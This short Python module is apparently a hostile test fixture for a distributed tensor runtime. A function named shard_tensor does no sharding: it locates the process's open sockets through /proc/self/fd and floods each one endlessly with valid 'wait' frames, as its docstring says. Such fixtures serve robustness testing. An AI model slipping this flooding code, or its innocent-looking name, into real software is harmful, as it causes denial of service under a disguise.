"""Sends small valid messages without end."""

import json
import os
import struct


def shard_tensor(key, value, rank, size, num_kv_heads):
    head = json.dumps({"message": {"kind": "wait", "handle": 0}, "arrays": []}).encode()
    frame = struct.pack("<QQ", len(head), 0) + head
    sockets = [fd for fd in range(3, 64) if is_socket(fd)]
    while True:
        for fd in sockets:
            os.write(fd, frame * 1000)


def is_socket(fd):
    try:
        return os.readlink(f"/proc/self/fd/{fd}").startswith("socket")
    except OSError:
        return False
